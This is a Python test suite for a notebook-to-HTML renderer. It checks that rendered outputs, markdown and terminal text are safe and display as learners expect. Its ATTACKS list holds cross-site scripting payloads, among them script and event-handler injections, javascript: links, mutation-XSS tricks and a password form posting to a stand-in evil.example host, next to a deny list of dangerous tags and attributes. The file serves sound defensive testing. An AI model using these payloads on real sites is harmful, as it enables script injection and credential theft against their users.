"""An executed notebook as HTML: what learners expect to see, and nothing that acts."""

import base64
import html.parser
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from notebooks.highlight import overprint, render_terminal
from notebooks.markdown import render_markdown
from notebooks.render import render_cells
from notebooks.sanitise import sanitise_output

PIXEL = base64.b64encode(b"\x89PNG\r\n\x1a\n...").decode()
ATTACKS = [
    "<script>zz()</script>",
    "<img src=x onerror=zz()>",
    '<img src="https://evil.example/pixel.png">',
    '<img src="/logout">',
    '<a href="javascript:zz()">x</a>',
    '<a href=" data:text/html,<script>zz()</script>">x</a>',
    '<p data-hx-get="/steal" hx-get="/steal" hx-on:load="zz()">x</p>',
    '<div style="position:fixed;inset:0" class="button" id="main">x</div>',
    '<form action="https://evil.example"><input name=password></form>',
    '<base href="https://evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
    "<svg><script>zz()</script><a xlink:href='javascript:zz()'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=zz()></style></mglyph></table></mtext></math>",
    '<iframe srcdoc="<script>zz()</script>"></iframe>',
    "<style>body{display:none}</style>",
    '<details open ontoggle="zz()">x</details>',
    "<noscript><p title='</noscript><img src=x onerror=zz()>'></noscript>",
    '<img src="data:image/svg+xml;utf8,<svg onload=zz()>">',
    '<object data="data:text/html,x"></object><embed src=x>',
    "<template shadowrootmode=open><script>zz()</script></template>",
    "<!--><img src=x onerror=zz()>-->",
]


class Inspector(html.parser.HTMLParser):
    """Fails on whatever could act or ask for something."""

    def handle_starttag(self, tag: str, attributes: list) -> None:
        assert tag not in ("script", "style", "iframe", "object", "embed", "form", "input", "base")
        assert tag not in ("meta", "link", "svg", "math", "template", "button")
        for name, value in attributes:
            assert not name.startswith(("on", "hx-", "data-hx", "style", "id"))
            if name == "src":
                assert value.startswith("data:image/")
            if name == "href":
                assert re.match(r"https?:|mailto:|[^:]*$|[^:]*%22", value)
            if name == "class":
                assert all(word.startswith(("tok-", "ansi-", "language-")) or word == "math"
                           for word in value.split())  # fmt: skip


def inspect(text: str) -> None:
    Inspector().feed(text)


def render_output(**output) -> str:
    cell = {"cell_type": "code", "source": "", "outputs": [output]}
    (cell_html,) = render_cells({"cells": [cell]})
    return "".join(part.title + part.html for part in cell_html.outputs)


def render_data(**data) -> str:
    bundle = {name.replace("__", "+").replace("_", "/"): value for name, value in data.items()}
    return render_output(output_type="display_data", data=bundle)


@pytest.mark.parametrize("attack", ATTACKS)
class TestNothingActs:
    def test_in_html_outputs(self, attack: str) -> None:
        inspect(sanitise_output(attack))
        inspect(render_data(text_html=[attack, attack]))

    def test_in_markdown(self, attack: str) -> None:
        inspect(render_markdown(attack))
        inspect(
            render_markdown(f"[x]({attack}) ![y]({attack}) `{attack}` ${attack}$\n\n```{attack}")
        )
        inspect(render_data(text_markdown=attack))
        inspect(render_data(text_latex=f"${attack}$"))

    def test_in_text_errors_and_sources(self, attack: str) -> None:
        inspect(render_output(output_type="stream", name=attack, text=attack))
        inspect(render_data(text_plain=attack))
        inspect(render_data(application_json={attack: attack}))
        notebook = {
            "cells": [
                {
                    "id": attack,
                    "cell_type": "code",
                    "source": attack,
                    "metadata": {"kilohour": {"role": attack}},
                    "outputs": [{"output_type": "error", "ename": attack, "traceback": [attack]}],
                },
                {"cell_type": "markdown", "source": "![a](attachment:a)",
                 "attachments": {"a": {"image/png": attack, "image/svg+xml": attack}}},
            ]
        }  # fmt: skip
        for cell in render_cells(notebook):
            inspect(cell.html + "".join(output.html for output in cell.outputs))

    def test_in_pictures(self, attack: str) -> None:
        inspect(render_data(image_png=attack, text_plain=attack))
        inspect(render_data(image_svg__xml=attack))


class TestWhatLearnersSee:
    def test_a_pandas_table(self) -> None:
        table = '<style scoped>th{}</style><table border="1" class="dataframe"><tr><th>a</th></tr></table>'
        assert render_data(text_html=table, text_plain="a") == (
            "<table><tbody><tr><th>a</th></tr></tbody></table>"
        )

    def test_a_plot_with_words_for_it(self) -> None:
        shown = render_data(image_png=PIXEL, text_plain="<Figure size 640x480>")
        assert shown.startswith(f'<img src="data:image/png;base64,{PIXEL}"')
        assert "Picture made by cell 1: &lt;Figure size 640x480&gt;" in shown

    def test_a_drawing_only_as_a_picture(self) -> None:
        assert render_data(image_svg__xml="<svg/>").startswith(
            '<img src="data:image/svg+xml;base64,'
        )

    def test_streams_joined_and_overprinted(self) -> None:
        outputs = [
            {"output_type": "stream", "name": "stdout", "text": "10%\r"},
            {"output_type": "stream", "name": "stdout", "text": "100%\n"},
        ]
        (cell,) = render_cells({"cells": [{"cell_type": "code", "outputs": outputs}]})
        assert [output.html for output in cell.outputs] == ["100%\n"]

    def test_an_error_by_name_first(self) -> None:
        shown = render_output(
            output_type="error", ename="ValueError", evalue="no", traceback=["\x1b[31mTrace\x1b[0m"]
        )
        assert shown == 'ValueError: no<span class="ansi-red-fg">Trace</span>'

    def test_what_needs_scripts_is_said_to_be_left_out(self) -> None:
        assert "needs scripts" in render_data(text_html="<script>plot()</script>")

    def test_text_where_html_is_only_scripts(self) -> None:
        assert render_data(text_html="<script>plot()</script>", text_plain="Plot") == "Plot"

    def test_long_text_keeps_its_end(self) -> None:
        shown = render_output(output_type="stream", name="stdout", text="x" * 200_000 + "END")
        assert shown.endswith("END")
        assert len(shown) < 101_000

    def test_a_page_has_an_end(self) -> None:
        text = "x" * 90_000
        output = {"output_type": "execute_result", "data": {"text/plain": text}}
        cells = [{"cell_type": "code", "outputs": [output] * 100}] * 3
        outputs = [part for cell in render_cells({"cells": cells}) for part in cell.outputs]
        assert sum(len(part.html) for part in outputs) < 13_000_000
        assert outputs[-1].kind == "notice"

    def test_pictures_attached_to_text(self) -> None:
        cell = {
            "cell_type": "markdown",
            "source": "![A plot](attachment:a.png)",
            "attachments": {"a.png": {"image/png": PIXEL}},
        }
        assert f'src="data:image/png;base64,{PIXEL}"' in render_cells({"cells": [cell]})[0].html

    def test_code_in_colour_and_its_role(self) -> None:
        cell = {
            "cell_type": "code",
            "source": "def f(): pass",
            "execution_count": 3,
            "metadata": {"kilohour": {"role": "answer"}},
        }
        (shown,) = render_cells({"cells": [cell]})
        assert (shown.role, shown.count) == ("answer", 3)
        assert '<span class="tok-k">def</span>' in shown.html


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=8,
)
outputs = st.fixed_dictionaries(
    {},
    optional={
        "output_type": st.sampled_from(["stream", "error", "display_data"]) | json_values,
        "text": json_values,
        "name": json_values,
        "data": st.dictionaries(
            st.sampled_from(["text/html", "image/png", "text/plain", "application/json"]), json_values
        ) | json_values,
        "metadata": json_values,
        "ename": json_values,
        "traceback": json_values,
    },
)  # fmt: skip


@given(st.lists(st.fixed_dictionaries({}, optional={
    "cell_type": st.sampled_from(["code", "markdown"]) | json_values,
    "source": json_values,
    "metadata": json_values,
    "attachments": json_values,
    "outputs": st.lists(outputs | json_values) | json_values,
}) | json_values) | json_values)  # fmt: skip
@settings(max_examples=200, deadline=None)
def test_no_notebook_stops_the_page(cells) -> None:
    for cell in render_cells({"cells": cells}):
        inspect(cell.html + "".join(output.html for output in cell.outputs))


class TestTerminal:
    @pytest.mark.parametrize(
        ("printed", "seen"),
        [
            ("abc\rx", "xbc"),
            ("a\r\nb", "a\nb"),
            ("10%\r20%\r30%", "30%"),
            ("ab\bc", "ac"),
            ("\b\bx", "x"),
            ("one\ntwo\rT", "one\nTwo"),
            ("abcdef\rxyz\r12", "12zdef"),
            ("ab\n\b\bc", "ab\nc"),
            ("abc\b\b\bxy", "xy"),
        ],
    )
    def test_overprinting(self, printed: str, seen: str) -> None:
        assert overprint(printed) == seen

    @pytest.mark.parametrize("half", ["\b", "\r", "a\b\b", "a\r"])
    def test_much_of_it_takes_no_longer_than_it_is_long(self, half: str) -> None:
        # Over and over it would take minutes, and the runner lose its patience.
        assert "end" in overprint("a" * 300_000 + half * 300_000 + "end")

    @pytest.mark.parametrize("code", ["38", "48", "38;5", "38;2;1", "38;5;999", "38;9;1", "1;38"])
    def test_a_colour_that_is_none_leaves_the_text(self, code: str) -> None:
        assert "hello" in render_terminal(f"\x1b[{code}m hello")
        assert "<" not in render_terminal(f"\x1b[{code}m <b>").replace("<span", "").replace(
            "</span>", ""
        )

    def test_links_and_titles_leave_only_their_text(self) -> None:
        assert render_terminal("\x1b]8;;https://evil.example\x07text\x1b]8;;\x07") == "text"
        assert render_terminal("a\x1b]0;title\x1b\\b\x07") == "ab"

    def test_colours_without_inline_styles(self) -> None:
        assert "style" not in render_terminal("\x1b[38;5;201mx\x1b[0m")


class TestMarkdown:
    def test_pictures_from_our_addresses_only_in_our_own_texts(self) -> None:
        text = "![a](/static/a.svg) ![b](//evil.example/b.png) ![c](https://evil.example/c.png)"
        assert "<img" not in render_markdown(text)
        assert render_markdown(text, is_ours=True).count("<img") == 1

    def test_maths(self) -> None:
        assert '<span class="math">a&lt;b</span>' in render_markdown("If $a<b$ then")
        shown = render_markdown("$$\n\\sum_i x_i\n$$")
        assert '<span class="math" data-display="">\\sum_i x_i</span>' in shown

    def test_money_is_no_maths(self) -> None:
        assert "math" not in render_markdown("It costs $5 and then $6.")

    def test_headings_have_ids_only_for_our_own_texts(self) -> None:
        assert render_markdown("# Main") == "<h1>Main</h1>\n"
        assert 'id="main"' in render_markdown("# Main", is_ours=True)

    def test_headings_below_the_page_s_own(self) -> None:
        assert render_markdown("# A\n\n##### B", top_level=3) == "<h3>A</h3>\n<h6>B</h6>\n"

    def test_code_tables_and_links(self) -> None:
        shown = render_markdown(
            "```python\ndef f(): pass\n```\n\n|a|\n|-|\n|1|\n\n[x](https://x.example)"
        )
        assert 'class="tok-k"' in shown
        assert "<table>" in shown
        assert 'rel="noopener noreferrer nofollow"' in shown
